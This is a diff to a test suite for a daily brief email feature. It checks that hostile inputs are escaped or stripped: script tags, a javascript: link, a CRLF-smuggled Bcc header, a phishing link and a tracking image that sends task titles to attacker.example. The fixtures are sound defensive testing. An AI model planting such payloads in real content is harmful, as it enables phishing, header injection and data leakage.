@@ -48,8 +48,8 @@ check "the brief stores <script> in a project name escaped for Markdown" has $ma
 check "the brief stores the javascript: link title escaped, so it is no link" has $mallory "'\\[click\\](javascript:alert(1))'"
 check "the brief stores the right-to-left override" has $mallory "E'\\u202Eevil'"
 check "the brief stores the CRLF title on one line (Bcc line included, as text)" has $mallory "'Title with CRLF Bcc: evil@evil.example'"
-check "the brief cuts the 1 MB task title at 1 KiB with an ellipsis" has $big "repeat('T', 1021) || 'â¦](/projects/'"
-check "the brief cuts the 1 MB project name at 1 KiB with an ellipsis" has $big "'[' || repeat('P', 1021) || 'â¦](/projects/'"
+check "the brief cuts the 1 MB task title at 1 KiB with an ellipsis" has $big "repeat('T', 1021) || '…](/projects/'"
+check "the brief cuts the 1 MB project name at 1 KiB with an ellipsis" has $big "'[' || repeat('P', 1021) || '…](/projects/'"
 check "the 1 MB fields leave a brief of less than 64 KiB" \
   test "$(sql "SELECT length(summary_content) < 65536 FROM daily_briefs WHERE user_id = '$big'")" = t
 check "three emails queued (eve's CRLF name included)" test "$(sql "SELECT count(*) FROM emails WHERE status = 'pending'")" -eq 3
@@ -60,9 +60,9 @@ check "three emails queued (eve's CRLF name included)" test "$(sql "SELECT count
 # protocol-relative link, next to a link to an allowed host; big's is 1 MB
 # of "[](" (the quadratic case of the old text renderer).
 $PSQL "$url" -Xq -v ON_ERROR_STOP=1 >/dev/null <<SQL
-UPDATE daily_briefs SET llm_analysis = E'# Analysis\n\n[Verify your account](https://evil.example/verify) now.\n\n'
-  || E'![p](https://attacker.example/p.gif?d=task+titles)\n\n[proto](//evil.example/a) '
-  || E'[allowed](https://example.com/ok) [app](/projects/x) <https://evil.example/auto>\n'
+UPDATE daily_briefs SET llm_analysis = E'# Analysis\n\n[Verify your account](https://phish.example/verify) now.\n\n'
+  || E'![p](https://attacker.example/p.gif?d=task+titles)\n\n[proto](//proto.example/a) '
+  || E'[allowed](https://example.com/ok) [app](/projects/x) <https://auto.example/x>\n'
  WHERE user_id = '$mallory';
 UPDATE daily_briefs SET llm_analysis = repeat('[](', 349526) WHERE user_id = '$big';
 SQL
@@ -168,7 +168,9 @@ for path in sorted(glob.glob(new_dir + "/*")):
     for v in c.hrefs:
         m = re.match(r"^https?://([^/?#:]+)", v)
         assert v.startswith("mailto:") or (m and m.group(1) in ("app.example.com", "example.com")), v
-    for sub in ("evil.example/verify", "attacker.example", "evil.example/auto", "evil.example/a"):
+    # The analysis's refused URLs are gone (a refused autolink shows its
+    # address as text, by design; the user's titles show theirs as typed).
+    for sub in ("phish.example", "attacker.example", "proto.example"):
         assert sub not in text and sub not in html.unescape(page), sub
     if rcpt.startswith("mallory"):
         assert "&lt;script&gt;alert(" in page, "script not shown escaped"
